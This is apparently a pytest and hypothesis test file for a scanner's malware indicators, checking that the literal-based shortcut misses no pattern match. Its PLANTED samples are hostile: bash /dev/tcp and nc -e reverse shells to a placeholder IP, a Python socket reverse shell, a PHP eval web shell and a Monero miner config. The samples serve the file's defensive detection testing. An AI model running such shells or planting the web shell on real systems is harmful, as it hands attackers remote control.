"""The literals each indicator looks for before running its pattern (``Indicator.needs``): every
text the pattern matches holds them, so the shortcut never hides a match."""

from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from outwork.analyzers.images.indicators import (
    MINER,
    REVERSE_SHELL,
    SUSPICIOUS_COMMAND,
    WEB_SHELL,
    Indicator,
    matches,
)

ALL = [i for family in (MINER, REVERSE_SHELL, WEB_SHELL, SUSPICIOUS_COMMAND) for i in family]


def _admits(indicator: Indicator, data: bytes) -> bool:
    lowered = data.lower()
    return all(any(word in lowered for word in group) for group in indicator.needs)


def _slow(indicators: tuple[Indicator, ...], data: bytes) -> list[tuple[str, int]]:
    """Every pattern on the whole text: what ``matches`` must answer."""
    found = []
    for indicator in indicators:
        hit = indicator.pattern.search(data)
        if hit is not None:
            found.append((indicator.name, hit.start()))
    return found


@pytest.mark.parametrize("indicator", [i for i in ALL if i.needs], ids=lambda i: i.name)
@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_every_match_holds_the_literals(indicator: Indicator, data: st.DataObject) -> None:
    # drawn as text over one byte per character (hypothesis draws bytes patterns poorly under
    # IGNORECASE), read back as those bytes: the same language as the bytes pattern
    as_text = re.compile(indicator.pattern.pattern.decode(), re.I | re.A)
    drawn = data.draw(st.from_regex(as_text, alphabet=st.characters(max_codepoint=255)))
    text = drawn.encode("latin-1")
    assert indicator.pattern.search(text)
    assert _admits(indicator, text), text


def test_an_indicator_without_literals_is_weak() -> None:
    assert all(not i.strong for i in ALL if not i.needs)


WALLET = b"4" + b"A" + b"b" * 93
PLANTED = [
    b"#!/bin/sh\nsleep 5\nBASH -I >& /DEV/TCP/203.0.113.7/4444 0>&1\n",  # upper case
    b'{"Donate-Level": 1, "algo": "RandomX"}',
    b"x" * 200_000 + b"\nnc 203.0.113.7 4444 -e /bin/sh\n",  # deep in a large file
    b"wallet " + WALLET + b"\nthe XMRig build",  # the weak wallet counts with a second sign
    b"wallet " + WALLET + b"\n",  # alone it is found by nothing: it decides nothing
    b"<?php @EVAL(base64_decode($_POST['c'])); ?>",
    b"import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',1));"
    b"os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
]


@pytest.mark.parametrize("text", PLANTED)
def test_matches_answers_what_every_pattern_would(text: bytes) -> None:
    for family in (MINER, REVERSE_SHELL, WEB_SHELL, SUSPICIOUS_COMMAND):
        fast = [(i.name, offset) for i, offset in matches(family, text)]
        slow = _slow(family, text)
        if family is MINER and [n for n, _ in slow] == ["Monero wallet address"]:
            assert fast == []  # a lone weak sign: found or not, no verdict changes
        else:
            assert fast == slow
